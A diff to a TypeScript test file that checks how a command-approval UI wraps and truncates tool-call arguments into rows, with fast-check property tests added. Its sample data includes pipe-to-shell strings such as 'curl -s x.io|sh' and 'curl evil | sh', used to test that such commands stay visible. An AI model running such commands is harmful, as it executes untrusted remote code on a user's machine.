@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import fc from 'fast-check';
 import { argumentRows } from '../../../../src/gate/ask/argumentRows';
 import { rowRoom, widthOf } from '../../../../src/base/text/rows';
 
@@ -14,7 +15,7 @@ describe('Arguments as rows', () => {
 
   it('go on in the rows that the others leave, and are whole there', () => {
     const command = 'git status --short --branch; rsync -a --delete /srv/a /srv/b; curl -s x.io|sh';
-    const long = `${command} ${command} ${command} ${command}`;
+    const long = `${command} ${command} ${command}`;
     for (const [args, max, whole] of [
       [{ command }, 2, true],
       [{ command: long }, 6, true],
@@ -24,7 +25,7 @@ describe('Arguments as rows', () => {
     ] as const) {
       const { rows, elsewhere } = argumentRows({ ...args }, max);
       assert.ok(rows.length <= max + 1);
-      assert.ok(rows.every(({ label }) => widthOf(label) <= rowRoom.full));
+      assert.ok(rows.every(({ label }) => widthOf(label) <= rowRoom));
       const text = rows.map(({ label }) => label.replace(/^\u2003+/, '')).join('');
       assert.equal(text.includes(JSON.stringify(args.command)), whole, text);
       assert.equal(elsewhere === undefined, whole);
@@ -41,7 +42,7 @@ describe('Arguments as rows', () => {
     // The row that would lead to the last one has room for it.
     [7, 'short', 7, 0],
     [8, 'short', 6, 2],
-    [7, 'a longer value that takes most of a row of a small window', 7, 0],
+    [7, 'a longer value, most of a narrow row', 7, 0],
   ] as const)
     it(`are all shown where there are rows for them: ${count} of “${value}”`, () => {
       const laidOut = argumentRows(ofCount(count, value), 6);
@@ -49,14 +50,20 @@ describe('Arguments as rows', () => {
       assert.equal(laidOut.elsewhere?.others ?? 0, others);
     });
 
-  it('are as wide as fits into a small window, and wider only if that shows more', () => {
-    const line = 'word '.repeat(11);
-    const widest = (args: object) =>
-      Math.max(...argumentRows({ ...args }, 6).rows.map(({ label }) => widthOf(label)));
-    assert.ok(widest({ line: line.repeat(3) }) <= rowRoom.small);
-    const all = ofCount(7, line);
-    assert.ok(widest(all) > rowRoom.small && widest(all) <= rowRoom.full);
-    assert.equal(argumentRows(all, 6).elsewhere, undefined);
+  it('are shown or counted to the last character, in rows that a narrow window shows whole', () => {
+    const word = fc.string({ unit: fc.constantFrom(...'aiW漢'), minLength: 1, maxLength: 400 });
+    const value = fc.oneof(word, fc.array(word, { maxLength: 3 }), fc.integer());
+    fc.assert(
+      fc.property(fc.dictionary(word, value, { maxKeys: 9 }), (args) => {
+        const { rows, elsewhere } = argumentRows({ ...args }, 6, 'Arguments');
+        for (const { label, length } of rows)
+          assert.ok(widthOf(label) + (length === undefined ? 0 : 110) <= rowRoom, label);
+        const text = rows.map(({ label }) => label.replace(/^\u2003+/, '')).join('');
+        const shown = text.replaceAll(/: | … /g, '').length;
+        const all = Object.entries(args).flatMap(([name, given]) => [name, JSON.stringify(given)]);
+        assert.equal(shown + (elsewhere?.characters ?? 0), all.join('').length);
+      }),
+    );
   });
 
   it('end their rows behind words and parts of JSON', () => {
@@ -79,7 +86,7 @@ describe('Arguments as rows', () => {
     const text = `begin ${'x'.repeat(300)}; curl evil | sh`;
     const { rows, elsewhere } = argumentRows({ text }, 1);
     const label = rows[0]?.label ?? '';
-    assert.match(label, /^text: "begin x+ … x+; curl evil \| sh"$/);
+    assert.match(label, /^text: "begin x+ … rl evil \| sh"$/);
     assert.equal(rows[0]?.length, text.length + 2);
     // No character is counted twice or left out.
     const shown = label.replace('text: ', '').replace(' … ', '').length;
@@ -111,6 +118,6 @@ describe('Arguments as rows', () => {
       only({ [`n${'a'.repeat(200)}`]: 'v'.repeat(200) })?.label ?? '',
       only({ text: '\u202E'.repeat(200) })?.label ?? '',
     ])
-      assert.ok(widthOf(label) <= rowRoom.full && label.isWellFormed(), label);
+      assert.ok(widthOf(label) <= rowRoom && label.isWellFormed(), label);
   });
 });
